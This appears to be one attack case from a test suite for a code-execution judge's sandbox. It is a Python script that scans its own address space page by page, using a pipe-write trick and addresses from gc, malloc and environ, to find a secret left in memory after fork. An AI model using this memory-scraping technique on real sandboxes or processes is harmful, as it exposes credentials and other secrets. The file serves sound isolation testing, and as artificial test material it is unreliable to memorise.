# attack: 96 memory that fork left behind
# group: H
# tries: to find a secret of the judge's environment in its own address space,
#     by the list of its mappings or, where there is none, page by page around
#     every address it knows
# limits: cpu=8 wall=40 memory=512M
# expect: accepted
# says: done
# control: escapes
import gc

A, B = b"@SECRET_A@", b"@SECRET_B@"
PAGE = 4096
ends = os.pipe()


def page(address):
    """The bytes of a page, None where there is nothing to read."""
    count = libc.write(ends[1], ctypes.c_void_p(address), PAGE)
    return os.read(ends[0], count) if count > 0 else None


def known():
    """Page numbers of objects, libraries, stack and environment."""
    here = ctypes.c_int()
    places = [id(o) for o in gc.get_objects()[::50]] + [
        ctypes.addressof(here), id(None), id(os), id(b"" * 2),
        ctypes.cast(libc.malloc, ctypes.c_void_p).value,
        ctypes.cast(libc.environ, ctypes.c_void_p).value]
    libc.malloc.restype = ctypes.c_void_p
    places += [libc.malloc(n) for n in (16, 4096, 65536, 1 << 20)]
    return sorted({p // PAGE for p in places})


def mapped():
    """Pages next to known ones, as far as they go without a gap."""
    seen = set()
    end = time.monotonic() + 6
    for start in known():
        for step in (1, -1):
            at = start if step == 1 else start - 1
            while at not in seen and time.monotonic() < end:
                text = page(at * PAGE)
                if text is None:
                    break
                seen.add(at)
                yield text, page((at + 1) * PAGE) or b""
                at += step


def search():
    for text, after in mapped():
        text += after[:64]
        found = text.find(A)
        while found >= 0:
            if text.startswith(B, found + len(A)):
                return True
            found = text.find(A, found + 1)
    return False


try_here("secret in memory", search)
print("done")
